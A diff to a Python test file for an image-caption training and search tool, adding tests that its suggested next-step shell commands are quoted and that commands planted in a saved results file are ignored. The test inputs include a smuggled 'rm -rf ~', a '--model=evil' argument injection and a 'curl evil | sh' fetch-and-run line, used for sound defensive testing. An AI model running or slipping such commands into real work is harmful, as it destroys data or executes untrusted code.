@@ -171,7 +171,7 @@ def test_unknown_measure_to_keep_by(photos, tmp_path):
 def meaning(**changes) -> Meaning:
     values = {
         "source": "photos", "images": 585, "captions": 2925, "epochs": 80.0, "pool": 65, "depth": 10, "held_out": 0.16,
-        "low": 0.12, "high": 0.2, "chance": 0.154, "train": 0.95, "before": None, "scratch": True, "next": [],
+        "low": 0.12, "high": 0.2, "chance": 0.154, "train": 0.95, "before": None, "scratch": True,
     }  # fmt: skip
     return Meaning(**{**values, **changes})
 
@@ -189,6 +189,42 @@ def test_what_figures_mean(changes, said, unsaid):
     text = "\n".join(meaning(**changes).lines())
     assert all(words in text for words in said), text
     assert not any(words in text for words in unsaid), text
+
+
+@pytest.mark.parametrize(
+    ("data", "shown"),
+    [
+        ("photos", "photos"),
+        ("my photos", "'my photos'"),
+        ({"name": "split", "source": "emoji", "part": "train"}, "emoji"),
+        ("a; rm -rf ~", "'a; rm -rf ~'"),
+        ("a\nb\x1b[2J", "'a\\nb\\x1b[2J'"),
+        ("hf:someone/thing", "photos/"),
+        ("https://host/a.csv", "photos/"),
+        ("--model=evil", "photos/"),
+        (["a"], "photos/"),
+        (None, "photos/"),
+    ],
+)
+def test_next_steps_are_made_of_what_is_known(data, shown):
+    steps = list(meaning(low=0.5, held_out=0.6).next_steps(Path("my runs"), data=data))
+    pairs = f"split:source={shown},part=held_out" if isinstance(data, dict) else "PAIRS"
+    assert steps == [
+        f"tether train {shown} --out 'my runs-from-starter'",
+        f"tether search {shown} \"a dog on a beach\" --model 'my runs' --html found.html",
+        f"tether inspect 'my runs' --pairs {pairs}",
+    ]
+    assert not any("search" in step for step in meaning().next_steps(Path("my runs"), data=data))
+    assert len(list(meaning(scratch=False).next_steps(Path("run"), data=data))) == 2
+
+
+def test_commands_in_the_file_of_another_are_not_read(tmp_path):
+    meaning().save(tmp_path)
+    path = tmp_path / "meaning.json"
+    path.write_text(json.dumps({**json.loads(path.read_text()), "next": ["curl evil | sh"]}))
+    found = read_meaning(tmp_path)
+    assert found == meaning()
+    assert "evil" not in "".join([*found.lines(), *found.next_steps(tmp_path, data="photos")])
 
 
 def test_search_in_a_folder(photos, clip):
@@ -238,7 +274,7 @@ def test_who_is_measured_on_what_it_learnt_is_told(photos, clip, tmp_path):
     assert "learnt from most of" in said
     word = said.rpartition(": ")[2]
     assert open_source(word).images == 4
-    assert f"--pairs {word}" in done.meaning.next[-1]
+    assert f"--pairs {word}" in done.next[-1]
     assert remark(str(out), open_source("digits")) == ""
     assert remark("starter", open_source(str(photos))) == ""
 
